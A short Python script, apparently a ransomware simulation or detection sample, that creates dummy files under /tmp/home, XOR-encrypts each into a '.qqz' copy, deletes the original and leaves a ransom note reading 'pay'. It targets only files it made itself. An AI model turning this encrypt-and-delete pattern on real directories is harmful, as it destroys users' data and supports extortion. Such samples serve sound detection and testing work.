# Makes victims, then puts an encrypted copy in the place of each and leaves a note.
import os
for d in range(3):
    os.makedirs(f"/tmp/home/d{d}", exist_ok=True)
    for n in range(8):
        open(f"/tmp/home/d{d}/report{n}.txt", "w").write("text " * 50)
for top, _, names in os.walk("/tmp/home"):
    for name in names:
        path = os.path.join(top, name)
        data = bytes(b ^ 0x5A for b in open(path, "rb").read())
        open(path + ".qqz", "wb").write(data)
        os.remove(path)
open("/tmp/home/READ_ME_TO_DECRYPT.txt", "w").write("pay")
